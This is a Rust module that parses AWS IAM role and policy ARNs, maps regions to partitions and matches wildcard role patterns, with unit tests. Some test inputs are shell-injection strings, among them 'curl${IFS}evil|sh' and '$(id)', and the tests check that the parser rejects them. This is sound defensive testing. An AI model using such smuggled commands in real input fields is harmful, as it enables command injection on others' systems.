//! ARNs of roles and policies, the partitions of AWS, and which roles a pattern of `may_assume` means.

use std::fmt;

/// Longest ARN (STS API reference).
const LONGEST: usize = 2048;
/// Longest text that is repeated where an ARN was expected.
const SHOWN: usize = 200;

/// Partitions by the beginning of their regions' names; every other region is of `aws`.
const PARTITIONS: [(&str, &str); 7] = [
    ("cn-", "aws-cn"),
    ("us-gov-", "aws-us-gov"),
    ("us-iso-", "aws-iso"),
    ("us-isob-", "aws-iso-b"),
    ("us-isof-", "aws-iso-f"),
    ("eu-isoe-", "aws-iso-e"),
    ("eusc-", "aws-eusc"),
];

/// Whether a text is the name of a region.
pub(super) fn is_region(text: &str) -> bool {
    text.split('-').count() >= 3
        && text.len() <= 32
        && text.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-')
        && !text.starts_with('-')
        && !text.ends_with('-')
}

/// The partition of a region.
pub(super) fn partition_of(region: &str) -> &'static str {
    PARTITIONS.iter().find(|(begin, _)| region.starts_with(begin)).map_or("aws", |(_, partition)| *partition)
}

/// `arn:PARTITION:iam::ACCOUNT:role/PATH/NAME`, taken apart. No part has a `:`, a `*` or an empty step.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct RoleArn<'a> {
    pub(super) partition: &'a str,
    pub(super) account: &'a str,
    /// Behind `role/`.
    pub(super) path: &'a str,
}

impl<'a> RoleArn<'a> {
    pub(super) fn parse(text: &'a str) -> Option<Self> {
        let (partition, account, path) = parts(text, "role/")?;
        (is_account(account) && !path.contains('*')).then_some(Self { partition, account, path })
    }
}

/// Whether a text is the ARN of one role.
pub(crate) fn is_role(text: &str) -> bool {
    RoleArn::parse(text).is_some()
}

/// Whether a text has nothing but what ARNs of roles have, and can be shown as it is.
pub(crate) fn is_plain_arn(text: &str) -> bool {
    text.len() <= SHOWN && text.bytes().all(|byte| is_plain(byte) || byte == b':')
}

/// The partition of `arn:PARTITION:iam::ACCOUNT:policy/PATH/NAME`; AWS' own policies are of the account `aws`.
pub(super) fn policy_partition(text: &str) -> Option<&str> {
    let (partition, account, path) = parts(text, "policy/")?;
    ((is_account(account) || account == "aws") && !path.contains('*')).then_some(partition)
}

/// Roles that a caller may name: an ARN in which `*` stands for a whole account, and in the role's path for any characters
/// of one step. So it never reaches over a `:` or a `/`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RolePattern {
    partition: String,
    /// `None`: any.
    account: Option<String>,
    path: String,
}

impl RolePattern {
    /// Reads a pattern; `None` where it is none.
    pub fn parse(text: &str) -> Option<Self> {
        let (partition, account, path) = parts(text, "role/")?;
        let account = match account {
            "*" => None,
            account if is_account(account) => Some(account.to_owned()),
            _ => return None,
        };
        Some(Self { partition: partition.to_owned(), account, path: path.to_owned() })
    }

    /// Whether it means this role. What is no ARN of a role is never meant.
    pub fn matches(&self, role_arn: &str) -> bool {
        let Some(role) = RoleArn::parse(role_arn) else { return false };
        role.partition == self.partition
            && self.account.as_ref().is_none_or(|account| account == role.account)
            && role.path.split('/').count() == self.path.split('/').count()
            && role.path.split('/').zip(self.path.split('/')).all(|(step, pattern)| fits(step, pattern))
    }

    pub(super) fn partition(&self) -> &str {
        &self.partition
    }
}

impl fmt::Display for RolePattern {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        let account = self.account.as_deref().unwrap_or("*");
        write!(formatter, "arn:{}:iam::{account}:role/{}", self.partition, self.path)
    }
}

/// Whether a step is what a pattern says: its pieces between `*`, in their order, the first and the last at the edges.
fn fits(step: &str, pattern: &str) -> bool {
    let Some((first, rest)) = pattern.split_once('*') else { return step == pattern };
    let (middle, last) = rest.rsplit_once('*').unwrap_or(("", rest));
    let Some(mut left) = step.strip_prefix(first).and_then(|left| left.strip_suffix(last)) else {
        return false;
    };
    middle.split('*').all(|piece| match left.split_once(piece) {
        Some((_, behind)) => {
            left = behind;
            true
        }
        None => false,
    })
}

/// Partition, account and what stands behind `kind`, which is a path of filled steps.
fn parts<'a>(text: &'a str, kind: &str) -> Option<(&'a str, &'a str, &'a str)> {
    let fields: Vec<&str> = text.split(':').collect();
    let ["arn", partition, "iam", "", account, resource] = fields.as_slice() else { return None };
    let path = resource.strip_prefix(kind)?;
    let is_path = path.split('/').all(|step| !step.is_empty())
        && path.bytes().all(|byte| is_plain(byte) || byte == b'*');
    let is_partition = (*partition == "aws" || partition.starts_with("aws-"))
        && partition.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'-');
    (text.len() <= LONGEST && is_path && is_partition).then_some((*partition, *account, path))
}

/// IAM's alphabet of names, and what parts a path. Names reach people in hints, to be copied into a terminal or a configuration, so
/// nothing that a shell or TOML reads is among it.
fn is_plain(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"+=,.@_/-".contains(&byte)
}

fn is_account(text: &str) -> bool {
    text.len() == 12 && text.bytes().all(|byte| byte.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pattern_reaches_over_no_colon_and_no_slash() {
        for (pattern, role, expected) in [
            ("arn:aws:iam::*:role/external-*", "arn:aws:iam::123456789012:role/external-ci", true),
            ("arn:aws:iam::*:role/external-*", "arn:aws:iam::123456789012:role/external-", true),
            ("arn:aws:iam::*:role/external-*", "arn:aws:iam::123456789012:role/external-x/admin", false),
            ("arn:aws:iam::*:role/external-*", "arn:aws:iam::123456789012:role/admin", false),
            ("arn:aws:iam::*:role/external-*", "arn:aws-cn:iam::123456789012:role/external-ci", false),
            ("arn:aws:iam::*:role/*/deploy", "arn:aws:iam::123456789012:role/team/deploy", true),
            ("arn:aws:iam::*:role/*/deploy", "arn:aws:iam::123456789012:role/deploy", false),
            ("arn:aws:iam::123456789012:role/*", "arn:aws:iam::123456789012:role/any", true),
            ("arn:aws:iam::123456789012:role/*", "arn:aws:iam::210987654321:role/any", false),
            ("arn:aws:iam::123456789012:role/a*b*c", "arn:aws:iam::123456789012:role/a-b-b-c", true),
            ("arn:aws:iam::123456789012:role/a*b*c", "arn:aws:iam::123456789012:role/ac", false),
            ("arn:aws:iam::123456789012:role/aa*a", "arn:aws:iam::123456789012:role/aa", false),
            ("arn:aws:iam::123456789012:role/x", "arn:aws:iam::123456789012:role/X", false),
            ("arn:aws:iam::123456789012:role/*", "arn:aws:iam::123456789012:role/*", false),
            ("arn:aws:iam::123456789012:role/*", "arn:aws:iam::123456789012:role/a:b", false),
            ("arn:aws:iam::123456789012:role/*", "arn:aws:iam::123456789012:user/any", false),
        ] {
            assert_eq!(RolePattern::parse(pattern).unwrap().matches(role), expected, "{pattern} {role}");
        }
        for none in [
            "*",
            "arn:aws:iam::*",
            "arn:*:iam::*:role/x",
            "arn:aws:iam::1*:role/x",
            "arn:aws:iam::**:role/x",
            "arn:aws:iam::*:*",
            "arn:aws:iam::*:role/",
            "arn:aws:iam::*:role/a//b",
            "arn:aws:iam::*:role/a b",
            "arn:aws:iam::*:role/a\"b",
            "arn:aws:iam::*:role/x;curl${IFS}evil|sh;#",
            "arn:aws:iam::*:role/$(id)",
            "arn:aws:iam::*:role/\u{e9}",
            "arn:aws:sts::*:role/a",
        ] {
            assert_eq!(RolePattern::parse(none), None, "{none}");
        }
    }

    #[test]
    fn each_region_has_its_partition() {
        for (region, partition) in [
            ("eu-west-1", "aws"),
            ("cn-north-1", "aws-cn"),
            ("us-gov-west-1", "aws-us-gov"),
            ("us-iso-east-1", "aws-iso"),
            ("us-isob-east-1", "aws-iso-b"),
            ("us-isof-south-1", "aws-iso-f"),
            ("eu-isoe-west-1", "aws-iso-e"),
            ("eusc-de-east-1", "aws-eusc"),
        ] {
            assert_eq!(partition_of(region), partition, "{region}");
        }
    }

    #[test]
    fn policies_are_of_an_account_or_of_aws() {
        assert_eq!(policy_partition("arn:aws:iam::aws:policy/ReadOnlyAccess"), Some("aws"));
        assert_eq!(policy_partition("arn:aws-cn:iam::123456789012:policy/team/p"), Some("aws-cn"));
        for none in [
            "ReadOnlyAccess",
            "arn:aws:iam::12:policy/p",
            "arn:aws:iam::aws:role/p",
            "arn:aws:iam::aws:policy/`id`",
            "arn:aws:iam::aws:policy/*",
        ] {
            assert_eq!(policy_partition(none), None, "{none}");
        }
    }
}
